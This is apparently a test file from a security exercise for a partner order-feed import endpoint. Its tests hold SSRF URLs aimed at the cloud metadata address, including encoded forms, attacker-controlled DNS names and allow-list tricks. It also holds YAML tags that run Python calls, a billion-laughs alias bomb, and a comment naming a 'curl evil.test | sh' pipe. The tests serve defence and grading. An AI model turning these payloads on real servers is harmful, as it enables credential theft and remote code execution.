"""Importing a partner's order feed: the one endpoint that makes the server fetch a URL.

Nothing here touches the real network: the `internet` fixture (see network.py) answers
every request from a table, records what was sent and how much of each body was read, and
refuses every other connection.
"""

import json

import pytest
from conftest import IMPORT, MAX_FEED_BYTES, MAX_FEED_ORDERS, PARTNER

FEED = {
    "orders": [{"reference": "ERP-1", "note": "", "lines": [{"sku": "DESK-01", "quantity": 1}]}]
}
METADATA = "169.254.169.254"
CREDENTIALS = json.dumps({"AccessKeyId": "ASIA-FAKE", "SecretAccessKey": "fake", "Token": "fake"})


def _import(client, url):
    return client.post(IMPORT, {"url": url}, format="json")


def _feed(count, reference="ERP"):
    return {
        "orders": [
            {"reference": f"{reference}-{n}", "lines": [{"sku": "DESK-01", "quantity": 1}]}
            for n in range(count)
        ]
    }


def _yaml(feed):
    # JSON is YAML: a flow-style document every YAML parser reads.
    return json.dumps(feed)


def test_a_json_feed_is_imported(as_alice, alice, catalogue, internet):
    internet.serve(
        f"{PARTNER}/orders.json", json.dumps(FEED), **{"Content-Type": "application/json"}
    )
    response = _import(as_alice, f"{PARTNER}/orders.json")
    assert response.status_code == 201, response.content
    assert list(alice.orders.values_list("reference", flat=True)) == ["ERP-1"]


def test_a_yaml_feed_is_imported(as_alice, alice, catalogue, internet):
    yaml_feed = (
        "orders:\n"
        "  - reference: ERP-2\n"
        "    note: ''\n"
        "    lines:\n"
        "      - {sku: DESK-01, quantity: 2}\n"
    )
    internet.serve(f"{PARTNER}/orders.yaml", yaml_feed)
    response = _import(as_alice, f"{PARTNER}/orders.yaml")
    assert response.status_code == 201, response.content
    assert list(alice.orders.values_list("reference", flat=True)) == ["ERP-2"]


def test_a_feed_that_is_down_is_a_clean_error(as_alice, alice, catalogue, internet):
    internet.serve(f"{PARTNER}/orders.json", "Service Unavailable", status=503)
    response = _import(as_alice, f"{PARTNER}/orders.json")
    assert response.status_code in (502, 503, 504), "a partner's outage is a gateway error"
    assert not alice.orders.exists()


# --8<-- [start:ssrf]
SSRF_ATTEMPTS = [
    pytest.param(
        f"http://{METADATA}/latest/meta-data/iam/security-credentials/web", id="metadata-ip"
    ),
    pytest.param(f"https://{METADATA}/latest/meta-data/", id="metadata-ip-https"),
    pytest.param("https://2852039166/latest/meta-data/", id="metadata-ip-as-one-number"),
    pytest.param(
        "http://metadata.attacker.example/latest/meta-data/", id="dns-name-pointing-inside"
    ),
    pytest.param(f"{PARTNER}/moved.json", id="redirect-from-an-allowed-host"),
    pytest.param(f"{PARTNER}/hop.json", id="redirect-in-two-hops"),
    pytest.param(f"https://[::ffff:{METADATA}]/latest/meta-data/", id="metadata-ip-as-ipv6"),
    # Allow-lists checked as strings: a prefix, a substring, the wrong part of the URL.
    pytest.param(
        "https://feeds.partner.example.attacker.example/orders.json", id="partner-as-a-prefix"
    ),
    pytest.param(f"https://feeds.partner.example@{METADATA}/orders.json", id="partner-as-user"),
    pytest.param(
        f"https://feeds.partner.example:443@{METADATA}/orders.json", id="partner-as-user-port"
    ),
    pytest.param(f"https://{METADATA}/feeds.partner.example/orders.json", id="partner-in-path"),
    pytest.param(f"https://{METADATA}/?feed=https://feeds.partner.example/", id="partner-in-query"),
    pytest.param("https://evil-feeds.partner.example.attacker.example/", id="partner-inside"),
]


@pytest.mark.flaw("D6-F7")
@pytest.mark.parametrize("url", SSRF_ATTEMPTS)
def test_the_import_never_fetches_an_internal_address(as_mallory, catalogue, internet, url):
    # The attacker controls these DNS names: every one points at the metadata service.
    for name in (
        "metadata.attacker.example",
        "feeds.partner.example.attacker.example",
        "evil-feeds.partner.example.attacker.example",
    ):
        internet.dns[name] = METADATA
    for path in ("/latest/meta-data/iam/security-credentials/web", "/latest/meta-data/"):
        internet.serve(f"http://{METADATA}{path}", CREDENTIALS)
        internet.serve(f"https://{METADATA}{path}", CREDENTIALS)
    internet.serve("http://metadata.attacker.example/latest/meta-data/", CREDENTIALS)
    internet.redirect(f"{PARTNER}/moved.json", f"http://{METADATA}/latest/meta-data/")
    internet.redirect(f"{PARTNER}/hop.json", f"{PARTNER}/moved.json")

    response = _import(as_mallory, url)

    assert not internet.contacted(METADATA), (
        f"importing {url} made the server send a request to the cloud metadata address "
        f"{METADATA} (status {response.status_code}): fetch partner hosts only, never follow "
        "a redirect you have not checked"
    )
    assert "ASIA-FAKE" not in response.content.decode()


# --8<-- [end:ssrf]


@pytest.mark.flaw("D6-F8")
def test_a_partner_that_never_answers_does_not_hold_the_worker(as_alice, catalogue, internet):
    internet.hang(f"{PARTNER}/orders.json")
    response = _import(as_alice, f"{PARTNER}/orders.json")
    assert not internet.waited_forever, (
        "the import called a partner that never answers with no (read) timeout: a real "
        "request would have held this worker forever"
    )
    timeouts = [sent.timeout for sent in internet.sent]
    longest = max(
        (max(t) if isinstance(t, tuple) else t for t in timeouts if t is not None), default=0
    )
    assert longest <= 30, f"the import waits up to {longest} s for a partner: at most 30 s"
    assert response.status_code in (502, 503, 504)
    assert "fake internet" not in response.content.decode(), (
        "the error echoes the HTTP client's exception text, which can describe the "
        "internal network: answer with a message of your own"
    )


@pytest.mark.flaw("D6-F12")
@pytest.mark.parametrize(
    "document",
    [
        pytest.param("orders: !!python/object/apply:os.makedirs ['{proof}']\n", id="apply"),
        pytest.param(
            "orders:\n  - reference: !!python/object/apply:os.makedirs ['{proof}']\n",
            id="apply-inside-an-order",
        ),
        # Loaders short of safe_load (FullLoader, UnsafeLoader) resolve python/name.
        pytest.param(
            "orders:\n  - reference: !!python/name:os.sep\n"
            "    lines: [{sku: DESK-01, quantity: 1}]\n",
            id="python-name",
        ),
    ],
)
def test_a_yaml_feed_cannot_run_code(as_mallory, mallory, catalogue, internet, tmp_path, document):
    proof = tmp_path / "the-feed-ran-code-here"
    # A harmless stand-in for os.system("curl evil.test | sh"): the same tag, a mkdir.
    internet.serve(f"{PARTNER}/orders.yaml", document.replace("{proof}", str(proof)))
    response = _import(as_mallory, f"{PARTNER}/orders.yaml")
    assert not proof.exists(), (
        "a YAML tag in the feed ran os.makedirs() on the server: parse feeds with "
        "yaml.safe_load, which builds data, never objects"
    )
    assert not mallory.orders.exists(), "a feed with a python/ tag was imported"
    assert response.status_code == 400


# -- the feed's size and shape --------------------------------------------------------------

F15 = pytest.mark.flaw("D6-F15")


@pytest.mark.flaw("D6-F15")
@pytest.mark.parametrize("path", ["orders.json", "orders.yaml"])
@pytest.mark.parametrize(
    "headers",
    [
        pytest.param({"Content-Length": None}, id="no-content-length"),
        pytest.param({"Content-Length": "1000"}, id="content-length-that-lies"),
        pytest.param({}, id="honest-content-length"),
    ],
)
def test_a_feed_is_read_no_further_than_the_limit(
    as_alice, alice, catalogue, internet, path, headers
):
    url = f"{PARTNER}/{path}"
    size = 3 * MAX_FEED_BYTES
    body = json.dumps(FEED)
    # A valid feed, then spaces as far as the test lets a target read (twice the limit), so
    # whatever a target reads is a complete, valid document: cutting the feed anywhere and
    # importing what was read is caught. Then filler no parser accepts (see network.py).
    blank = 2 * MAX_FEED_BYTES - len(body)
    internet.serve(url, body, padding=size - len(body), blank=blank, **headers)
    response = _import(as_alice, url)
    read = internet.bytes_read.get(url, 0)
    assert read <= 2 * MAX_FEED_BYTES, (
        f"the import read {read} bytes of an {size}-byte feed: stop reading at "
        f"{MAX_FEED_BYTES} bytes, whatever Content-Length says"
    )
    assert response.status_code in (400, 413, 422, 502), (
        f"a feed longer than {MAX_FEED_BYTES} bytes answered {response.status_code}: refuse "
        "it, rather than cutting it at the limit and importing what was read"
    )
    assert not alice.orders.exists()


@pytest.mark.flaw("D6-F15")
@pytest.mark.parametrize("path", ["orders.json", "orders.yaml"])
def test_a_feed_holds_a_bounded_number_of_orders(as_alice, alice, catalogue, internet, path):
    internet.serve(f"{PARTNER}/full.{path}", json.dumps(_feed(MAX_FEED_ORDERS, "FULL")))
    internet.serve(f"{PARTNER}/over.{path}", json.dumps(_feed(MAX_FEED_ORDERS + 1, "OVER")))

    over = _import(as_alice, f"{PARTNER}/over.{path}")
    assert over.status_code == 400, (
        f"a feed of {MAX_FEED_ORDERS + 1} orders answered {over.status_code}: a feed holds "
        f"at most {MAX_FEED_ORDERS}"
    )
    assert not alice.orders.exists()
    full = _import(as_alice, f"{PARTNER}/full.{path}")
    assert full.status_code == 201, f"a feed of exactly {MAX_FEED_ORDERS} orders is allowed"
    assert alice.orders.count() == MAX_FEED_ORDERS


ALIASES = """
line: &line {sku: DESK-01, quantity: 1}
lines: &lines [*line, *line, *line, *line, *line, *line, *line, *line, *line, *line]
order: &order {reference: ALIAS, note: '', lines: *lines}
orders: [*order, *order, *order, *order, *order, *order, *order, *order, *order, *order]
"""
BILLION_LAUGHS = """
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
orders: [*g, *g, *g, *g, *g, *g, *g, *g, *g]
"""


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(ALIASES, id="aliases", marks=F15),
        # The starter refuses this one by luck: the strings are not orders.
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
    ],
)
def test_a_yaml_feed_cannot_multiply_itself_with_aliases(
    as_alice, alice, catalogue, internet, document
):
    # A few hundred bytes that stand for 100 lines, or for 9**8 strings: an alias repeats
    # a node without repeating its text.
    internet.serve(f"{PARTNER}/orders.yaml", document)
    response = _import(as_alice, f"{PARTNER}/orders.yaml")
    assert response.status_code == 400, (
        f"a YAML feed built from aliases answered {response.status_code}: refuse anchors "
        "and aliases, which let a small document stand for a huge one"
    )
    assert not alice.orders.exists()


@pytest.mark.parametrize(
    ("path", "body"),
    [
        pytest.param("orders.json", "[]", id="json-array", marks=F15),
        pytest.param("orders.json", '{"items": []}', id="no-orders-key", marks=F15),
        pytest.param("orders.json", "not json", id="not-json", marks=F15),
        pytest.param("orders.json", b"\xff\xfe{\x00", id="not-utf-8", marks=F15),
        pytest.param("orders.yaml", "orders: [unclosed", id="broken-yaml", marks=F15),
        pytest.param("orders.yaml", "- just\n- a list\n", id="yaml-list", marks=F15),
        # DRF's list serializer refuses a dict where a list belongs, starter included.
        pytest.param("orders.json", '{"orders": {"reference": "X"}}', id="orders-not-a-list"),
    ],
)
def test_a_malformed_feed_is_a_400(as_alice, alice, catalogue, internet, path, body):
    internet.serve(f"{PARTNER}/{path}", body)
    response = _import(as_alice, f"{PARTNER}/{path}")
    assert response.status_code == 400, (
        f"a malformed feed answered {response.status_code}: check its shape and answer 400"
    )
    assert not alice.orders.exists()
